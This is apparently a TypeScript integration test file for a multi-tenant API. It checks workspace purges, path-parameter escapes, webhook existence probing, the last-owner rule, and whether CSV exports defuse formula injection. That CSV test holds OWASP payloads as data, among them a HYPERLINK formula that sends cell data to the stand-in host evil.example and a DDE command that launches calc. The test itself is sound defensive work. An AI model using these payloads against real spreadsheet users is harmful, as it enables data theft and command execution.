import { parse } from 'csv-parse/sync';
import { afterAll, describe, expect, inject, it } from 'vitest';
import { signWebhook } from '../../functions/adapters/connectors/webhook-signature.ts';
import { PURGE_STEPS } from '../../shared/ports/tenant-lifecycle.ts';
import { purgeWorkspace } from '../../shared/use-cases/workspace-lifecycle.ts';
import { call } from '../support/api.ts';
import { lifecycleWorld } from '../support/tenant-lifecycle.ts';
import { record } from './support/ledger.ts';
import { ROUTES } from './support/routes.ts';

const stack = inject('stack');
const world = lifecycleWorld(stack);
afterAll(() => world.close());

describe('tenant lifecycle and the black-box probe classes (report rows)', () => {
  it('a purge interrupted in every step resumes to nothing left (and an uninterrupted one)', async () => {
    let left = 0;
    let purges = 0;
    for (const step of [null, ...PURGE_STEPS.filter((s) => s !== 'done')]) {
      const w = await world.populatedWorkspace(`res-${step ?? 'whole'}`);
      if (step) await expect(purgeWorkspace(world.deps(world.interruptedIn(step)), w.tenantId)).rejects.toThrow();
      expect((await purgeWorkspace(world.deps(), w.tenantId)).status).toBe('purged');
      const after = await world.leftOf(w.tenantId, [w.memberId]);
      left += after.items + after.objects + after.memberships;
      purges++;
    }
    expect(left).toBe(0);
    record({
      kind: 'fault',
      name: 'workspace purge interrupted in each step, resumed',
      count: purges,
      lost: left,
      detail: `${PURGE_STEPS.length - 1} steps cut + 1 whole; items, objects and memberships left: ${left}`,
    });
  });

  it('malformed %-escapes in every path parameter answer 400 in the error format, never 5xx', async () => {
    const owner = await world.populatedWorkspace('res-escapes');
    const routes = ROUTES.filter((r) => r.path.includes(':'));
    let requests = 0;
    let bad = 0;
    for (const route of routes) {
      for (const malformed of ['%E0%A4%A', '%', '%zz']) {
        const res = await call(stack.apiUrl, route.method, route.path.replace(/:\w+/g, malformed), {
          token: owner.owner.token,
        });
        requests++;
        if (res.status >= 500 || res.status !== 400 || res.json?.error?.code === undefined) bad++;
      }
    }
    expect(bad).toBe(0);
    record({
      kind: 'input',
      name: 'malformed %-escapes in path parameters',
      count: requests,
      lost: bad,
      detail: `${routes.length} routes × 3 escapes, all 400 invalid_path`,
    });
  });

  it('the webhook route answers the same for an existing and an unknown connector', async () => {
    const w = await world.populatedWorkspace('res-webhook');
    const brands = await call(stack.apiUrl, 'GET', '/brands', { token: w.owner.token });
    const connector = await call(stack.apiUrl, 'POST', '/connectors', {
      token: w.owner.token,
      body: { brandId: brands.json.items[0].id, name: 'probe hook', config: { source: 'webhook' } },
    });
    expect(connector.status, JSON.stringify(connector.json)).toBe(201);
    const body = '{"items":[]}';
    const variants: Record<string, string>[] = [
      {},
      signWebhook('whsec_wrong', body),
      signWebhook('whsec_wrong', body, Math.floor(Date.now() / 1000) - 3600),
      { 'x-promptpulse-timestamp': 'soon', 'x-promptpulse-signature': 'v1=00' },
    ];
    let requests = 0;
    let differing = 0;
    for (const headers of variants) {
      const send = (id: string) =>
        call(stack.apiUrl, 'POST', `/ingest/webhooks/${id}`, {
          rawBody: body,
          contentType: 'application/json',
          headers,
        });
      const [known, unknown] = await Promise.all([send(connector.json.id), send('con_01jz9999999999999999999999')]);
      requests += 2;
      if (known.status !== unknown.status || JSON.stringify(known.json) !== JSON.stringify(unknown.json)) differing++;
    }
    expect(differing).toBe(0);
    record({
      kind: 'input',
      name: 'webhook connector-existence probe',
      count: requests,
      lost: differing,
      detail: 'status and body equal for a real and an unknown connector id',
    });
  });

  it('prompt-set CSV exports defuse every OWASP formula start (the cells a spreadsheet would run)', async () => {
    const w = await world.populatedWorkspace('res-csv');
    const brands = await call(stack.apiUrl, 'GET', '/brands', { token: w.owner.token });
    const brandId = brands.json.items[0].id as string;
    const payloads = ['=HYPERLINK("http://evil.example/?x="&A1,"x")', "+1+cmd|' /C calc'!A0", '-2+3', '@SUM(1,1)'];
    const saved = await call(stack.apiUrl, 'PUT', `/brands/${brandId}/prompt-set`, {
      token: w.owner.token,
      headers: { 'if-match': '"0"' }, // the brand's first prompt set
      body: { prompts: payloads.map((text, i) => ({ text: `${text} prompt ${i}`, persona: text })) },
    });
    expect(saved.status, JSON.stringify(saved.json)).toBe(201);
    const exported = await fetch(`${stack.apiUrl}/brands/${brandId}/prompt-set/export`, {
      headers: { authorization: `Bearer ${w.owner.token}` },
    });
    const rows = parse(await exported.text(), { columns: true }) as Record<string, string>[];
    const cells = rows.flatMap((row) => [row.text ?? '', row.persona ?? '']);
    const live = cells.filter((cell) => /^[=+\-@\t\r]/.test(cell));
    expect(cells.length).toBe(payloads.length * 2);
    expect(live).toEqual([]);
    record({
      kind: 'input',
      name: 'CSV formula injection through the prompt-set export',
      count: cells.length,
      lost: live.length,
      detail: `${payloads.length} OWASP payloads in prompt text and persona; cells starting = + - @ tab CR: ${live.length}`,
    });
  });

  it('the last active owner cannot leave or be demoted; an invited owner does not count', async () => {
    const w = await world.populatedWorkspace('res-owner');
    const me = await call(stack.apiUrl, 'GET', '/members', { token: w.owner.token });
    const self = (me.json.items as { userId: string; role: string; version: number }[]).find((m) => m.role === 'owner');
    expect(self).toBeDefined();
    const invitedOwner = await call(stack.apiUrl, 'POST', '/members', {
      token: w.owner.token,
      body: { email: `pending-owner-${Date.now()}@example.com`, role: 'owner' },
    });
    expect(invitedOwner.status).toBe(201);
    const attempts = [
      () => call(stack.apiUrl, 'DELETE', `/members/${self?.userId}`, { token: w.owner.token }),
      ...(['admin', 'viewer'] as const).map(
        (role) => () =>
          call(stack.apiUrl, 'PATCH', `/members/${self?.userId}`, {
            token: w.owner.token,
            headers: { 'if-match': `"${self?.version}"` },
            body: { role },
          }),
      ),
    ];
    let accepted = 0;
    let tried = 0;
    for (const attempt of attempts) {
      const res = await attempt();
      tried++;
      // Refused by the last-owner rule (409), not by a missing precondition or a server error.
      if (res.status !== 409 || res.json?.error?.code !== 'last_owner') accepted++;
    }
    const after = await call(stack.apiUrl, 'GET', '/members', { token: w.owner.token });
    const stillOwner = (after.json.items as { userId: string; role: string }[]).some(
      (m) => m.userId === self?.userId && m.role === 'owner',
    );
    expect(tried).toBeGreaterThan(0);
    expect(accepted).toBe(0);
    expect(stillOwner).toBe(true);
    record({
      kind: 'input',
      name: 'last active owner leaving or demoted (with an owner invitation pending)',
      count: tried,
      lost: accepted,
      detail: 'every attempt refused with 409 last_owner; the workspace keeps its active owner',
    });
  });
});
